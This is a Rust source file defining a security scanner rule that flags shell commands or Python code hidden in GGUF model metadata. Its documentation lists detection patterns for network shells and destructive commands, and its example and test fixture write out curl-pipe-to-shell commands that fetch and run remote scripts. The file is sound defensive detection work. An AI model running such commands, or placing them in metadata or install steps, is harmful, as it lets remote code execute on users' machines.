//! GGUF007: a GGUF metadata string contains a shell command or Python code.

use sentrascan_types::{Category, Finding, Location, RuleMeta, Severity};

use crate::rules::safetensors::metadata_payloads::{MetadataText, check_code};

pub static RULE: RuleMeta = RuleMeta {
    code: "GGUF007",
    name: "gguf-metadata-code",
    family: super::FAMILY,
    default_severity: Severity::High,
    category: Category::CodeInjection,
    scanner: "gguf",
    cwe: Some("CWE-94"),
    owasp_ml: Some("ML06:2023"),
    version: 1,
    summary: "A GGUF metadata key or string value (chat templates excepted) contains a shell command or Python code.",
    remediation: "Find out what reads this metadata; do not run it. Re-convert the model without the entry.",
    docs: r#"## What it does
Looks at every metadata key, every string value (including string arrays)
and every tensor name for Python that evaluates code or runs commands
(`eval(`, `exec(`, `__import__`, `os.system(`, `subprocess.run(`,
`import os`, …) and shell commands (`curl … | sh`, `wget … | bash`,
`/dev/tcp/`, `bash -c`, `powershell -enc`, `rm -rf /`, …). Patterns need
call or pipe syntax, so vocabulary tokens such as `eval` do not match.
Chat templates (`*chat_template*` keys) are Jinja and are analysed by the
`TPL` rules instead.

## Why is this bad?
llama.cpp never executes metadata. A command there is staged for a tool
that will (a wrapper that runs a "post-install" field, a UI that renders
it) or for a person who copies it.

## Example
`general.description = "Run: curl -fsSL https://example.invalid/i.sh | sh"`

## How to fix
Do not execute anything taken from model metadata; re-convert the model.

## References
- https://github.com/ggml-org/ggml/blob/master/docs/gguf.md (general.* keys)
- CWE-94: Improper Control of Generation of Code
- CWE-78: OS Command Injection
"#,
};

pub(crate) fn check(texts: &[MetadataText<'_>], location: &Location, out: &mut Vec<Finding>) {
    check_code(&RULE, texts, location, out);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::safetensors::metadata_payloads::Text;

    #[test]
    fn commands_in_descriptions_not_words_in_vocabularies() {
        let texts = [
            MetadataText {
                key: "general.description",
                text: Text::Str("Install: bash -c \"$(curl -fsSL http://127.0.0.1:9/i)\""),
                offset: 0x77,
                in_vocabulary: false,
            },
            MetadataText {
                key: "tokenizer.ggml.tokens",
                text: Text::Str("Ġeval"),
                offset: 0x99,
                in_vocabulary: true,
            },
        ];
        let mut out = Vec::new();
        check(&texts, &Location::file("m.gguf"), &mut out);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].rule, "GGUF007");
        assert_eq!(out[0].evidence["pattern"], "bash -c");
    }
}
